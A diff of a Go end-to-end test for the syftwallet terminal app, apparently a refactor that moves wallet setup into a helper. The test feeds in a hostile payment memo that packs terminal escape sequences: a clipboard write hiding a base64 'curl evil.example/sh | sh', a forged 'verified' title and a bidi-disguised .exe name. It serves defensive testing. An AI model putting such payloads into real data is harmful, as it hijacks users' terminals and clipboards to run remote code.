@@ -3,53 +3,23 @@ package app
 import (
 	"context"
 	"errors"
-	"image/color"
 	"regexp"
 	"strings"
 	"testing"
-	"time"
 
 	tea "charm.land/bubbletea/v2"
-	"github.com/charmbracelet/colorprofile"
-	"github.com/charmbracelet/x/exp/teatest/v2"
 
 	"github.com/syftbox/syftwallet/api"
 	"github.com/syftbox/syftwallet/client"
 	"github.com/syftbox/syftwallet/ledger"
 	"github.com/syftbox/syftwallet/money"
 	"github.com/syftbox/syftwallet/service"
-	"github.com/syftbox/syftwallet/ui"
 )
 
 // hostileMemo holds every control class a memo must not bring to the terminal: OSC 52
 // (clipboard), an OSC title, CSI, C1 CSI, CR, NUL, BEL and the bidi override and isolate.
 const hostileMemo = "pay\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07 \x1b]0;syftwallet: verified\x07" +
 	"\x1b[2J\x1b[H \u009b31m red\rNUL\x00 \u202egnp.exe \u2066iso\u2069 end"
-
-// rawProbe answers with the frame as the terminal gets it, styles included.
-type rawProbe struct{ probe }
-
-type rawSnapshotMsg struct{ reply chan string }
-
-func (p rawProbe) Update(msg tea.Msg) (tea.Model, tea.Cmd) {
-	if s, ok := msg.(rawSnapshotMsg); ok {
-		s.reply <- p.m.View().Content
-		return p, nil
-	}
-	_, cmd := p.probe.Update(msg)
-	return p, cmd
-}
-
-func (w *wallet) rawFrame() string {
-	reply := make(chan string, 1)
-	w.tm.Send(rawSnapshotMsg{reply: reply})
-	select {
-	case s := <-reply:
-		return s
-	case <-time.After(5 * time.Second):
-		return ""
-	}
-}
 
 // sgr is the only escape sequence a frame may hold: colours and styles.
 var sgr = regexp.MustCompile(`\x1b\[[0-9;:]*m`)
@@ -100,21 +70,7 @@ func TestEndToEndHostileMemoNeverReachesTheTerminal(t *testing.T) {
 	register(t, bob, "bob@example.com", "bob-password")
 	storeHostile(t, svc, hostileMemo)
 
-	ctx, cancel := context.WithCancel(context.Background())
-	m := ui.New(ui.Options{
-		Ctx: ctx, Client: bob, Theme: "default", Server: "embedded", Embedded: true,
-		ExportDir: t.TempDir(), PayThreshold: 1000 * money.Scale, PollEvery: time.Second, Dark: true,
-	})
-	tm := teatest.NewTestModel(t, rawProbe{probe{m}}, teatest.WithInitialTermSize(120, 36),
-		teatest.WithProgramOptions(tea.WithColorProfile(colorprofile.ANSI256)))
-	tm.Send(tea.BackgroundColorMsg{Color: color.Black})
-	w := &wallet{tm: tm, m: m, cancel: cancel}
-	t.Cleanup(func() {
-		_ = tm.Quit()
-		tm.WaitFinished(t, teatest.WithFinalTimeout(5*time.Second))
-		m.Shutdown()
-		cancel()
-	})
+	w := openWalletAt(t, bob, 120, 36)
 	w.signIn(t, "bob@example.com", "bob-password")
 	w.waitFor(t, "the payments on the dashboard", "+4.20", "+1.00")
 	checkRaw(t, "dashboard", w.rawFrame())
